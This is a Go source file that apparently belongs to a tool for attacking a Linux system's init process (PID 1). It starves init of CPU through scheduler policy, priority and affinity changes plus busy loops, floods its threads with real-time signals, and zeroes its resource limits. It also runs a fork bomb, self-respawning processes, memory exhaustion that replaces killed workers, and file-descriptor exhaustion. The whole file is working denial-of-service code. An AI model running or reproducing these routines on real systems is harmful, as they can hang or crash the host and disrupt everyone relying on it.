package main

import (
	"os"
	"strconv"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// threads are those of PID 1.
func threads() (all []uintptr) {
	entries, _ := os.ReadDir("/proc/1/task")
	for _, e := range entries {
		if tid, err := strconv.Atoi(e.Name()); err == nil {
			all = append(all, uintptr(tid))
		}
	}
	return all
}

// starve takes the processor from PID 1: the lowest policy and priority, one
// core for everybody, and 80 busy loops on it.
func starve() ([]string, func()) {
	type param struct{ priority int32 }
	var (
		zero param
		core = [16]uint64{1}
		mask = uintptr(unsafe.Pointer(&core))
		out  []string
	)
	for _, tid := range threads() {
		_, _, e1 := syscall.RawSyscall(unix.SYS_SCHED_SETSCHEDULER, tid, unix.SCHED_IDLE, uintptr(unsafe.Pointer(&zero)))
		_, _, e2 := syscall.RawSyscall(unix.SYS_SETPRIORITY, unix.PRIO_PROCESS, tid, 19)
		_, _, e3 := syscall.RawSyscall(unix.SYS_SCHED_SETAFFINITY, tid, unsafe.Sizeof(core), mask)
		if tid == 1 {
			out = append(out, said("policy", e1), said("priority", e2), said("affinity", e3))
		}
	}
	_, _, _ = syscall.RawSyscall(unix.SYS_SCHED_SETAFFINITY, 0, unsafe.Sizeof(core), mask)
	_ = unix.Setpriority(unix.PRIO_PROCESS, 0, -20)
	return out, times(80, spin)
}

//go:nosplit
func spin() {
	for {
	}
}

// siginfo is a siginfo_t of a queued signal.
var siginfo [128]byte //nolint:gochecknoglobals // processes with no heap of their own use it

// floodSignals queues real-time signals at PID 1 and its threads, as fast as
// eight processes can.
func floodSignals() ([]string, func()) {
	*(*int32)(unsafe.Pointer(&siginfo[8])) = -1 // SI_QUEUE
	_, _, e := syscall.RawSyscall(unix.SYS_RT_SIGQUEUEINFO, 1, 40, uintptr(unsafe.Pointer(&siginfo)))
	return []string{said("signal", e)}, times(8, flood)
}

//go:nosplit
func flood() {
	for {
		for tid := uintptr(1); tid < 24; tid++ {
			for sig := uintptr(34); sig < 64; sig++ {
				*(*int32)(unsafe.Pointer(&siginfo[0])) = int32(sig)
				_, _, _ = syscall.RawSyscall6(unix.SYS_RT_TGSIGQUEUEINFO, 1, tid, sig, uintptr(unsafe.Pointer(&siginfo)), 0, 0)
			}
		}
	}
}

// cutLimits takes descriptors, memory, stack and time from PID 1.
func cutLimits() ([]string, func()) {
	var (
		none [2]uint64
		out  []string
	)
	for name, limit := range map[string]uintptr{
		"nofile": unix.RLIMIT_NOFILE, "as": unix.RLIMIT_AS, "data": unix.RLIMIT_DATA, "stack": unix.RLIMIT_STACK,
		"cpu": unix.RLIMIT_CPU, "nproc": unix.RLIMIT_NPROC, "sigpending": unix.RLIMIT_SIGPENDING,
	} {
		_, _, e := syscall.RawSyscall6(unix.SYS_PRLIMIT64, 1, limit, uintptr(unsafe.Pointer(&none)), 0, 0, 0)
		out = append(out, said(name, e))
	}
	return out, times(1, spin)
}

// forkBomb makes processes that make processes, up to the limit, all busy.
func forkBomb() ([]string, func()) { return []string{"bombing"}, times(1, bomb) }

//go:nosplit
func bomb() {
	for {
		clone()
	}
}

// runAway is never where it is looked for: each process makes two and ends.
func runAway() ([]string, func()) { return []string{"running"}, times(4, run) }

//go:nosplit
func run() {
	for {
		if clone() > 0 && clone() > 0 {
			_, _, _ = syscall.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
		}
	}
}

// eatMemory has the memory used up all the time: whoever is killed for it is
// replaced.
func eatMemory() ([]string, func()) { return []string{"eating"}, times(4, eat) }

//go:nosplit
func eat() {
	const chunk = 1 << 20
	for {
		if clone() != 0 {
			_, _, _ = syscall.RawSyscall6(unix.SYS_WAIT4, ^uintptr(0), 0, 0, 0, 0, 0)
			continue
		}
		for {
			_, _, _ = syscall.RawSyscall6(unix.SYS_MMAP, 0, chunk, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANON|unix.MAP_POPULATE, ^uintptr(0), 0)
		}
	}
}

var null = [...]byte{'/', 'd', 'e', 'v', '/', 'n', 'u', 'l', 'l', 0} //nolint:gochecknoglobals // as above

// eatDescriptors opens files until there is no descriptor left, in each of eight
// processes. (Eight with a socket for each would be out of memory first.)
func eatDescriptors() ([]string, func()) { return []string{"eating"}, times(8, openAll) }

//go:nosplit
func openAll() {
	for {
		_, _, _ = syscall.RawSyscall6(unix.SYS_OPENAT, 0, uintptr(unsafe.Pointer(&null)), unix.O_RDWR, 0, 0, 0)
	}
}
